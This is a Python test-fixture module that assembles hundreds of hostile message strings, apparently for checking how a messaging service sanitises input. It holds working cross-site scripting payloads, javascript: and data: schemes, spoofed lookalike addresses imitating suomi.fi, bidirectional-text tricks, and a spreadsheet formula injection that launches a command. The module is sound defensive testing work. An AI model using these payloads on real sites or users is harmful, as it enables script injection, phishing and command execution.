"""Five hundred things that somebody might write to have a page run a script, draw markup, or send people elsewhere.

Made from parts, always the same: tags, attributes, protocols, encodings, tricks of Unicode, and addresses that look
like others. Each calls `alert`, which a page that runs it can't hide.
"""

from collections.abc import Iterator
from itertools import product
from unicodedata import normalize

CALL = "alert(1)"
_TAGS = (
    "img", "svg", "video", "audio", "iframe", "object", "embed", "input", "details", "select", "body", "marquee", "a",
    "form", "button", "style", "link", "math", "template", "dialog",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
)  # fmt: skip
_WHOLE = (
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script src=//evil.example/{CALL}></script>",
    f"</p></li></ol><script>{CALL}</script>", f"<svg><script>{CALL}</script></svg>", f"<<script>{CALL}//<</script>",
    f"<script\n>{CALL}</script\n>", f"--><script>{CALL}</script><!--", f"]]><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"</title><script>{CALL}</script>", f"</style><script>{CALL}</script>",
    f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f"`><script>{CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>", f"<template><img src=x onerror={CALL}></template>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>", f"<base href=javascript:{CALL}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>", f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>", f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<isindex action=javascript:{CALL} type=image>", "<plaintext>", "<xmp>", "<!--", "<![CDATA[",
    "<?xml version='1.0'?>",
    f"<style>@import 'javascript:{CALL}';</style>", f"<div style=\"background:url('javascript:{CALL}')\">x</div>",
    f"{{{{constructor.constructor('{CALL}')()}}}}", f"${{{CALL}}}", f"#{{{CALL}}}", f"<%= {CALL} %>", f"[[{CALL}]]",
    f"{{{CALL}}}", f"v-html='{CALL}'", f"<x-widget onconnected={CALL}></x-widget>", "__proto__", "constructor",
    "toString",
    '{"type":"span","props":{"dangerouslySetInnerHTML":{"__html":"<b>x</b>"}}}', f"dangerouslySetInnerHTML={CALL}",
    f"[click](javascript:{CALL})", f"![x](x onerror={CALL})", "[a]: http://evil.example", "<https://evil.example>",
    f"';{CALL};//", f'";{CALL};//', f"\\';{CALL};//", f"</script><svg onload={CALL}>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "javascript&colon;{}",
    "&#106;avascript:{}", "javascript://%0a{}", "javascript:void({})", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>", "vbscript:{}",
    "view-source:javascript:{}", "blob:{}", "file:///etc/passwd#{}", "feed:javascript:{}", "jar:javascript:{}",
    "\u0458avascript:{}", "javascript\uff1a{}",
)  # fmt: skip
_PLACES = ("{}", "<a href='{}'>apua täältä</a>", "[apua]({})", "<img src='{}'>", "see {} now")
_HOSTS = (
    "https://www.suomi.fi@evil.example/", "https://www.suomi.fi:443@evil.example", "https://evil.example/www.suomi.fi",
    "https://www.suomi.fi.evil.example", "https://www.suomi.fi%2eevil.example", "https://www.suomi.fi\\@evil.example",
    "https://www.suomi.fi\u2024evil.example", "https://www.suomi\u3002fi", "https://www.suom\u0456.fi",
    "https://www.su\u043emi.fi", "https://www.s\u03c5omi.fi", "https://xn--suom-1nd.fi", "https://www.suomi.fi\u2215evil.example",
    "https://www.suomi.fi\u2044evil.example", "https://evil.example/\u202efi.imous.www", "https://\u2066evil\u2069.example",
    "https://evil.example/#https://www.suomi.fi", "https://evil.example?https://www.suomi.fi", "http://evil.example",
    "//evil.example", "www.evil.example", "https:evil.example", "https:///evil.example", "HTTPS://EVIL.EXAMPLE",
    "https://[::1]/", "https://127.1/", "https://2130706433/", "https://0x7f.1", "ftp://evil.example", "tel:+358112",
    "sms:112", "mailto:a@evil.example?bcc=b@evil.example", "intent://evil.example#Intent;scheme=https;end",
    "https://" + "a" * 300 + ".example", "https://evil.example/" + "%20" * 60 + "www.suomi.fi",
    "https://evil.example/\u00ad\u200b\u200d\u2060", "https://evil.example\u2028https://www.suomi.fi",
)  # fmt: skip
_AROUND = ("{}", "<a href='{}'>https://www.suomi.fi</a>", "Katso https://www.suomi.fi ({})")
_BIDI = ("\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c")
_SPOKEN = (f"<img src=x onerror={CALL}>", "exe.gpj", "12:34 Aino: hello", "https://evil.example")
_ODD = (
    "\ufeff<script>" + CALL + "</script>", "\uff1cscript\uff1e" + CALL + "\uff1c/script\uff1e", "\u2028<script>",
    "\u2029",
    "\u200b" * 40, "a" + "\u0301" * 60, "\ufdfd" * 20, "\U000e0001\U000e0041\U000e007f", "\U0001f1eb\U0001f1ee" * 30,
    "\ufff9hidden\ufffashown\ufffb", "\u115f\u1160 x", "%3Cscript%3E" + CALL + "%3C/script%3E", "\\u003cscript\\u003e",
    "&lt;script&gt;" + CALL + "&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=" + CALL + "&#x3e;",
    "+ADw-script+AD4-" + CALL + "+ADw-/script+AD4-", "\u0130\u0131\u017f\u212a<\u017fcript>" + CALL,
    "=HYPERLINK(\"http://evil.example\")", "@SUM(1+1)*cmd|' /C calc'!A0",
)  # fmt: skip


def _made() -> Iterator[str]:
    yield from _WHOLE
    for tag, event in product(_TAGS, _EVENTS):
        yield f"<{tag} src=x href=x autofocus tabindex=0 open {event}={CALL}>"
    for place, scheme in product(_PLACES, _SCHEMES):
        yield place.format(scheme.format(CALL))
    for around, host in product(_AROUND, _HOSTS):
        yield around.format(host)
    for sign, words in product(_BIDI, _SPOKEN):
        yield f"{sign}{words}"
        yield f"hello {words}{sign} 12:34"
    yield from _ODD


def hostile_texts() -> list[str]:
    """At least five hundred different texts, each of which the service accepts as a message, as it keeps them (NFC)."""
    return list(dict.fromkeys(text for made in _made() if (text := normalize("NFC", made)).strip()))
